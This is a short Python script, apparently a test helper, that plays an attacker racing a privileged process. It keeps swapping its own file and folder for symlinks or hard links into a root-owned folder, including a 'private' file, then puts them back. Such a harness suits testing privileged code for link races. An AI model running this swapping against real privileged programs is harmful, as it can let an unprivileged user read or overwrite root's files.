"""An attacker that puts links where its files were, and its files back again, until it is killed: what stands there is
nearly always what was planned, and now and then something else. Arguments: its folder, a folder of root's.
"""

import contextlib
import os
import random
import sys
import time


def main(theirs, outside):
    file, sub = os.path.join(theirs, "file"), os.path.join(theirs, "sub")
    visits = (
        (file, lambda: os.symlink(os.path.join(outside, "file"), file)),
        (file, lambda: os.link(os.path.join(outside, "file"), file)),
        (file, lambda: os.link(os.path.join(outside, "private"), file)),
        (sub, lambda: os.symlink(os.path.join(outside, "folder"), sub)),
    )
    print("visiting", flush=True)
    while True:
        for place, visit in visits:
            with contextlib.suppress(OSError):
                os.rename(place, place + ".away")
            try:
                with contextlib.suppress(OSError):
                    visit()
                    os.unlink(place)
            finally:
                with contextlib.suppress(OSError):
                    os.rename(place + ".away", place)
            time.sleep(random.random() * 0.003)  # so that root meets what it planned for, too


main(*sys.argv[1:])
